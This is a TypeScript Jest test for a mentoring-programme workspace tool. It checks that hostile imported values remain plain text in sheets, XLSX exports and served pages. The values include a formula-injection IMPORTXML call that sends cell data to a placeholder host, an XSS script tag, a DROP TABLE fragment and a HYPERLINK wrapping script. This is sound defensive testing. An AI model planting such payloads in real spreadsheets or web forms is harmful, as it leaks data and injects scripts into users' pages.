/** Texts that try to be something else, imported with people's names and answers: they stay texts in every sheet, in the XLSX file and on the pages. */
import ExcelJS from 'exceljs';
import type { Fields } from '../../src/cli/workspaces/form-answers';
import { workbookBytes } from '../../src/cli/xlsx/write-workbook';
import { type ServedWorkspace, serveWorkspace } from '../../src/local/serve-workspace';
import type { PlainSheet } from '../../src/local/workspace';
import { csv } from '../bundle-runs/csv';
import { approveAll } from '../bundle-runs/kept-organisations';
import { keep } from '../bundle-runs/kept-workspace';
import { Organisation, SETTINGS } from '../bundle-runs/organisation';
import { pupil, pupilConsent, student, studentConsent } from '../bundle-runs/people';
import { tableOf, takeInFile, takeInRows } from '../bundle-runs/tables';
import { Reader, unescaped } from '../local/web/reader';

jest.setTimeout(120_000);

const FORMULA = '=IMPORTXML("http://example.test/"&A1;"//a")';
const SCRIPT = '<script>alert(1)</script><b>';
/** What a spreadsheet, a page or a file of Excel would take for something else. */
const HOSTILE = [
  FORMULA,
  SCRIPT,
  '+79131234567',
  '-1+2',
  '@SUM(A1:A9)',
  '1e5',
  '01.02',
  '1/2',
  '5 мая',
  '1 января 2012',
  '12:30',
  'TRUE',
  "'в кавычке",
  "'",
  '=',
  '00123',
  '50 %',
  'שלום \u202Eмир',
  '"; DROP TABLE',
  '&lt;b&gt;',
  ']]>',
  '_x000D_',
  '#ССЫЛКА!',
  `${'A'.repeat(6_000)}=1+1`,
];
/** Half a sign, which no file in UTF-8 can hold but a script can be handed. */
const HALF_A_SIGN = 'мир \uD83D и труд';
const ORGANISATION = `=HYPERLINK("http://example.test/";"${SCRIPT}")`;

const at = (index: number) => HOSTILE[index % HOSTILE.length] ?? '';
/** As a name of somebody: whoever reads the file must still be sure that the column holds names. */
const named = (index: number) => (index % 4 === 0 ? { name: `${at(index).slice(0, 60)} Анна` } : {});
const hostilePupil = (index: number): Fields =>
  pupil(index, {
    ...named(index),
    groupOrPost: at(index),
    requests: ['математика', `другое: ${at(index)}`],
    requestText: at(index),
    preferredMentor: at(index),
    interests: [at(index)],
    ...(index % 4 === 1 ? { representative: `${at(index).slice(0, 60)} Мария` } : {}),
  });
const hostileStudent = (index: number): Fields =>
  student(index, {
    ...named(index),
    groupOrPost: at(index),
    competences: ['математика', `другое: ${at(index)}`],
    lifeExperience: at(index),
    motivation: at(index),
  });
const pupils = HOSTILE.map((_, index) => hostilePupil(index));
const students = HOSTILE.slice(0, 16).map((_, index) => hostileStudent(index));
const [topic, result, nextStep] = [FORMULA, SCRIPT, '01.02'];

let organisation: Organisation;
beforeAll(async () => {
  const settings = { ...SETTINGS, organisation: ORGANISATION, address: '+7', municipality: '@SUM(A1)' };
  organisation = Organisation.open(
    await keep(async (workspace) => (await Organisation.setUp(workspace, settings)).facts),
  );
  const consents = [
    ...pupils.map(({ name, representative = '' }, index) =>
      pupilConsent(index, { participant: name ?? '', signer: representative }),
    ),
    ...students.map(({ name, birthDate = '' }) => studentConsent(0, { participant: name ?? '', birthDate })),
  ];
  await takeInFile(organisation, 'mentee', csv(tableOf('mentee', pupils), ','));
  await takeInFile(organisation, 'mentor', csv(tableOf('mentor', students), '\t'));
  await takeInFile(organisation, 'consent', csv(tableOf('consent', consents), ';'));
  await takeInRows(organisation, 'mentee', tableOf('mentee', [pupil(900, { requestText: HALF_A_SIGN })]));
  await organisation.ask('proposePairs');
  await approveAll(organisation);
  const { pairLinks } = await organisation.ask<{ pairLinks: { menteeToken: string }[] }>('programmeSummary');
  const meeting = { date: '2026-09-03', minutes: '45', mood: '9', trouble: 'Нет', topic, result, nextStep };
  await organisation.submit('meeting', { ...meeting, pairToken: pairLinks[0]?.menteeToken ?? '' });
  await organisation.hear();
});
afterAll(() => organisation.close());

/** The texts of a sheet; what it shows otherwise than it holds is a date or a number. */
function textsOf(
  sheet: PlainSheet,
): readonly { readonly row: number; readonly column: number; readonly text: string }[] {
  return sheet.values.flatMap((cells, row) =>
    cells.flatMap((value, column) =>
      typeof value === 'string' && value !== '' && sheet.displayValues[row]?.[column] === value
        ? [{ row: row + 1, column: column + 1, text: value }]
        : [],
    ),
  );
}

/** Options of one cell are told apart by these signs, however they were meant. */
const asOptions = (text: string) =>
  text
    .split(/[,;\n]/)
    .map((part) => part.trim())
    .filter((part) => part !== '')
    .join(', ');

test('everybody stands in the banks with the very words of the file', () => {
  const mentees = new Map(organisation.rows('mentees').map((row) => [row.email, row]));
  for (const [index, { name, email = '' }] of pupils.entries())
    expect(mentees.get(String(email))).toMatchObject({
      name,
      groupOrPost: at(index),
      requestText: at(index),
      preferredMentor: at(index),
      interests: asOptions(at(index)),
      requests: `математика, ${asOptions(at(index))}`,
    });
  const mentors = new Map(organisation.rows('mentors').map((row) => [row.email, row]));
  for (const { name, email = '', groupOrPost, lifeExperience, motivation } of students)
    expect(mentors.get(String(email))).toMatchObject({ name, groupOrPost, lifeExperience, motivation });
  expect(organisation.rows('meetings')).toEqual([expect.objectContaining({ topic, result, nextStep })]);
  expect(organisation.column('attention', 'requestText').length).toBe(1);
  expect(JSON.stringify(organisation.sheet('ledger').values)).toContain('мир \\\\ud83d и труд');
});

test('no sheet holds a formula, and a second look changes nothing', async () => {
  const before = JSON.stringify(organisation.sheets());
  for (const { name, formulas } of organisation.sheets())
    expect([name, formulas.flat().filter((text) => text !== '')]).toEqual([name, []]);
  expect(await organisation.ask('sweepNow')).toMatchObject({ newAnswers: 0, revisedAnswers: 0, refusals: [] });
  expect(JSON.stringify(organisation.sheets())).toBe(before);
});

test('the XLSX file holds them as texts, word for word', async () => {
  const bytes = await workbookBytes(organisation.workspace.read(organisation.facts.spreadsheet), new Date(0), {
    name: 'О файле',
    lines: [],
  });
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  const written = new Set<string>();
  for (const sheet of organisation.sheets().filter(({ hidden }) => !hidden)) {
    const worksheet = workbook.getWorksheet(sheet.name);
    worksheet?.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
    for (const { row, column, text } of textsOf(sheet)) {
      const { value } = worksheet?.getCell(row, column) ?? {};
      expect([sheet.name, row, column, value]).toEqual([
        sheet.name,
        row,
        column,
        /\p{Surrogate}/u.test(text) ? value : text,
      ]);
      written.add(text);
    }
  }
  expect(HOSTILE.filter((text) => !written.has(text))).toEqual([]);
});

describe('on the pages', () => {
  let served: ServedWorkspace;
  let reader: Reader;
  beforeAll(async () => {
    served = await serveWorkspace(organisation.workspace, { port: 0 });
    reader = new Reader(served.url);
  });
  afterAll(() => served.close());

  const harmless = (html: string) => expect(html).not.toMatch(/<script>alert|<b>|javascript:/);

  test('they stand in the cells as they are', async () => {
    const shown = new Set<string>();
    for (const sheet of organisation.sheets().filter(({ hidden }) => !hidden)) {
      const { status, html } = await reader.open(`/books/${organisation.facts.spreadsheet}/sheets/${sheet.id}`);
      expect([sheet.name, status]).toEqual([sheet.name, 200]);
      harmless(html);
      for (const [, text = ''] of html.matchAll(/<td[^>]*>(?:<div class="long">)?([^<]*)</g))
        shown.add(unescaped(text));
    }
    expect(HOSTILE.filter((text) => !shown.has(text))).toEqual([]);
  });

  test('a row’s own page, the home page and the forms name them harmlessly', async () => {
    const book = `/books/${organisation.facts.spreadsheet}/sheets/${organisation.sheet('mentees').id}`;
    const rows = HOSTILE.map((_, index) => `${book}/rows/${index + 2}`);
    const home = await reader.open('/');
    const forms = [...home.html.matchAll(/href="(\/forms\/[^"]+)"/g)].map(([, path = '']) => path);
    expect(forms.length).toBe(5);
    let words = '';
    for (const path of [...rows, ...forms]) {
      const { status, html } = await reader.open(path);
      expect([path, status]).toEqual([path, 200]);
      harmless(html);
      words += unescaped(html);
    }
    harmless(home.html);
    expect(HOSTILE.filter((text) => !words.includes(text))).toEqual([]);
    expect(unescaped(home.html)).toContain(ORGANISATION);
    expect(words).toContain(ORGANISATION);
  });
});
